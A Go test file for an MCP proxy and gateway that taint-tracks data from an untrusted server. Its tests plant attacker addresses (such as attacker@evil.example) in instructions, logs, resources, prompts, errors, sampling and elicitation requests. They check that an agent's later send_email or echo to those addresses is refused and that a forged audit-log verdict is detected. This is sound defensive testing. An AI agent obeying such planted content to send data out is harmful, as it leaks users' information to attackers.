// Sampling and logging are deprecated in MCP (SEP-2577) but still sent by
// servers during the deprecation window; these tests must be the client
// that receives them, so they use the SDK's deprecated handlers.
//
//lint:file-ignore SA1019 the tests receive sampling and log messages as a client must while servers still send them

package proxy

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"bailiff/chain"
	"bailiff/verify"
)

// TestChannelsTaint: a malicious server plants an address in every channel
// that reaches the client besides a tool result — initialize
// instructions, a log message before the session starts, a resource, a
// prompt, a JSON-RPC error (message and data), a tool result with
// isError, a sampling request, an elicitation request, a log message
// mid-session. A send to each is denied by taint, naming the channel, and
// never reaches the server; a trusted send does. The log verifies, and a
// verdict forged on one of those sends is a finding.
func TestChannelsTaint(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/channels-server.js")
	sent := filepath.Join(t.TempDir(), "sent")
	policy := `version: 1
rules:
  - {id: all, tool: "*", action: allow}
tools:
  send_email:
    exfiltrating: true
    sink_params: [to]
    trusted_destinations: ["@good.example"]
`
	var sampled, logged []string
	s := start(t, setup{policy: policy, server: "mail", subject: "ana", command: []string{"node", script},
		env: []string{"CHANNELS_SENT=" + sent},
		elicit: func(r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "decline"}, nil
		},
		client: func(o *mcp.ClientOptions) {
			o.CreateMessageHandler = func(_ context.Context, r *mcp.CreateMessageRequest) (*mcp.CreateMessageResult, error) {
				for _, m := range r.Params.Messages {
					if tc, ok := m.Content.(*mcp.TextContent); ok {
						sampled = append(sampled, tc.Text)
					}
				}
				return &mcp.CreateMessageResult{Role: "assistant", Model: "none", Content: &mcp.TextContent{Text: "no"}}, nil
			}
			o.LoggingMessageHandler = func(_ context.Context, r *mcp.LoggingMessageRequest) {
				b, _ := json.Marshal(r.Params.Data)
				logged = append(logged, string(b))
			}
		}})
	ctx := t.Context()
	if r, err := s.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "mail://inbox/7"}); err != nil || len(r.Contents) != 1 || !strings.Contains(r.Contents[0].Text, "resource@resource-evil.example") {
		t.Fatalf("resources/read: %+v %v", r, err)
	}
	if _, err := s.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "mail://gone"}); err == nil || !strings.Contains(err.Error(), "read-error@") {
		t.Fatalf("resources/read of a gone resource: %v, want the server's JSON-RPC error", err)
	}
	if _, err := s.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "mail://dup"}); err != nil {
		t.Fatalf("resources/read of the duplicate-key resource: %v", err)
	}
	if r, err := s.cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "reply"}); err != nil || len(r.Messages) != 1 {
		t.Fatalf("prompts/get: %+v %v", r, err)
	}
	if _, err := s.cs.CallTool(ctx, &mcp.CallToolParams{Name: "fetch", Arguments: map[string]any{}}); err == nil || !strings.Contains(err.Error(), "rpc-error@rpc-error-evil.example") {
		t.Fatalf("fetch: %v, want the server's JSON-RPC error", err)
	}
	if r := s.call("bounce", nil); !r.IsError {
		t.Fatalf("bounce: %q, want the tool's own isError", text(r))
	}
	if r := s.call("nudge", nil); r.IsError || text(r) != "nudged" {
		t.Fatalf("nudge: %q", text(r))
	}
	if len(sampled) != 1 || !strings.Contains(sampled[0], "sampling@sampling-evil.example") {
		t.Errorf("the sampling request did not reach the client: %q", sampled)
	}

	planted := map[string]string{
		"instructions@instructions-evil.example": "initialize",
		"early-log@early-log-evil.example":       "notifications/message",
		"resource@resource-evil.example":         "resources/read",
		"prompt@prompt-evil.example":             "prompts/get",
		"rpc-error@rpc-error-evil.example":       "fetch",
		"rpc-data@rpc-data-evil.example":         "fetch",
		"bounce@bounce-evil.example":             "bounce",
		"sampling@sampling-evil.example":         "sampling/createMessage",
		"elicit@elicit-evil.example":             "elicitation/create",
		"log@log-evil.example":                   "notifications/message",
		"dup-first@dup-first-evil.example":       "resources/read",
		"read-error@read-error-evil.example":     "resources/read",
		"dup-last@dup-last-evil.example":         "resources/read",
	}
	addrs := make([]string, 0, len(planted))
	for a := range planted {
		addrs = append(addrs, a)
	}
	slices.Sort(addrs)
	for _, a := range addrs {
		r := s.call("send_email", map[string]any{"to": a})
		if want := "output of " + planted[a]; !r.IsError || !strings.Contains(text(r), "check taint") || !strings.Contains(text(r), want) {
			t.Errorf("send to %s: %q, want a taint refusal naming %q", a, text(r), want)
		}
	}
	if r := s.call("send_email", map[string]any{"to": "friend@good.example"}); r.IsError {
		t.Errorf("a trusted send was refused: %q", text(r))
	}
	rep := s.verify()
	if rep.Calls != len(planted)+4 {
		t.Errorf("the log holds %d calls, want %d", rep.Calls, len(planted)+4)
	}
	got, _ := os.ReadFile(sent)
	if string(got) != "friend@good.example\n" {
		t.Errorf("the server sent mail to %q, want only the trusted address", got)
	}
	if len(logged) < 2 {
		t.Errorf("the client saw %d log messages, want 2: %q", len(logged), logged)
	}

	// Forge the denial of the send to the resource's address into an
	// allow: verify must recompute the denial from the resource's
	// evidence, and say so.
	data, err := os.ReadFile(s.log)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range []string{`"tool":"resources/read","channel":"resources/read","status":"failed"`,
		`"tool":"fetch","status":"failed","content":"sha256:`, `"tool":"initialize","channel":"initialize","status":"ok"`} {
		if !bytes.Contains(data, []byte(rec)) {
			t.Errorf("no result record holding %s", rec)
		}
	}
	forged := resealed(t, data, func(body []byte) []byte {
		if !bytes.Contains(body, []byte(`"to":"resource@resource-evil.example"`)) {
			return body
		}
		return bytes.Replace(body, []byte(`"verdict":"deny","check":"taint"`), []byte(`"verdict":"allow","check":"rules"`), 1)
	})
	frep, err := verify.Log("forged", bytes.NewReader(forged), s.options.Evidence, verify.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(frep.Findings) != 1 || frep.Findings[0].Kind != verify.FindVerdict || !strings.Contains(frep.Findings[0].Reason, "resources/read") {
		t.Errorf("forged verdict: %+v, want one verdict finding naming the resource read", frep.Findings)
	}
}

// resealed rewrites every record's body with edit and chains the records
// anew, so only what edit changed is wrong.
func resealed(t *testing.T, data []byte, edit func([]byte) []byte) []byte {
	t.Helper()
	path := filepath.Join(t.TempDir(), "resealed.jsonl")
	w, err := chain.Open(path, chain.None)
	if err != nil {
		t.Fatal(err)
	}
	rd := chain.NewReader(bytes.NewReader(data))
	edited := false
	for {
		rec, err := rd.Next()
		if err != nil {
			break
		}
		body := edit(rec.Body)
		edited = edited || !bytes.Equal(body, rec.Body)
		if _, err := w.Append(rec.TS, rec.Session, rec.Kind, json.RawMessage(body)); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	if !edited {
		t.Fatal("nothing was edited")
	}
	out, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestChannelsEverything: the reference server-everything's prompt,
// resource and simulated log messages are recorded with their channels;
// an address that came back in the prompt is denied when the agent echoes
// it out through a tool the policy treats as a sink, and the log verifies.
func TestChannelsEverything(t *testing.T) {
	server := peer(t, "@modelcontextprotocol/server-everything/dist/index.js")
	policy := `version: 1
rules:
  - {id: all, tool: "*", action: allow}
tools:
  echo:
    exfiltrating: true
    sink_params: [message]
    trusted_destinations: ["ok@good.example"]
`
	logged := make(chan string, 16)
	s := start(t, setup{policy: policy, server: "everything", command: []string{"node", server, "stdio"},
		client: func(o *mcp.ClientOptions) {
			o.LoggingMessageHandler = func(_ context.Context, r *mcp.LoggingMessageRequest) {
				b, _ := json.Marshal(r.Params.Data)
				select {
				case logged <- string(b):
				default:
				}
			}
		}})
	ctx := t.Context()
	pr, err := s.cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "args-prompt", Arguments: map[string]string{"city": "attacker@evil.example"}})
	if err != nil || len(pr.Messages) == 0 {
		t.Fatalf("prompts/get: %+v %v", pr, err)
	}
	rr, err := s.cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "demo://resource/dynamic/text/1"})
	if err != nil || len(rr.Contents) == 0 {
		t.Fatalf("resources/read: %+v %v", rr, err)
	}
	if r := s.call("toggle-simulated-logging", nil); r.IsError {
		t.Fatalf("toggle-simulated-logging: %q", text(r))
	}
	select {
	case <-logged: // recorded before it was relayed
	case <-time.After(20 * time.Second):
		t.Fatal("no log message from the server")
	}
	if r := s.call("echo", map[string]any{"message": "attacker@evil.example"}); !r.IsError || !strings.Contains(text(r), "output of prompts/get") {
		t.Errorf("echo of the prompt's address: %q, want a taint refusal naming prompts/get", text(r))
	}
	if r := s.call("echo", map[string]any{"message": "ok@good.example"}); r.IsError {
		t.Errorf("echo of a trusted value: %q", text(r))
	}
	s.verify()
	data, err := os.ReadFile(s.log)
	if err != nil {
		t.Fatal(err)
	}
	for _, ch := range []string{"initialize", "prompts/get", "resources/read", "notifications/message"} {
		if !bytes.Contains(data, []byte(`"channel":"`+ch+`"`)) {
			t.Errorf("no %s result record in the log", ch)
		}
	}
}

// TestChannelsGateway: behind a gateway, a server's JSON-RPC error, its
// log messages and its sampling and elicitation requests reach the
// client and taint: a send to an address any of them carried is denied.
func TestChannelsGateway(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/channels-server.js")
	policy := `version: 1
rules:
  - {id: all, server: m, tool: "*", action: allow}
tools:
  send_email:
    exfiltrating: true
    sink_params: [to]
`
	s := startGateway(t, policy, []Upstream{{Name: "m", Cmd: exec.Command("node", script)}})
	if _, err := s.cs.CallTool(t.Context(), &mcp.CallToolParams{Name: "m.fetch", Arguments: map[string]any{}}); err == nil {
		t.Fatal("m.fetch: want the server's JSON-RPC error")
	}
	if r := s.call("m.nudge", nil); r.IsError {
		t.Fatalf("m.nudge: %q", text(r))
	}
	for addr, want := range map[string]string{"rpc-error@rpc-error-evil.example": "check taint", "log@log-evil.example": "check taint",
		"early-log@early-log-evil.example": "check taint", "sampling@sampling-evil.example": "check taint", "elicit@elicit-evil.example": "check taint"} {
		if r := s.call("m.send_email", map[string]any{"to": addr}); !r.IsError || !strings.Contains(text(r), want) {
			t.Errorf("send to %s: %q, want %q", addr, text(r), want)
		}
	}
	s.verify()
}
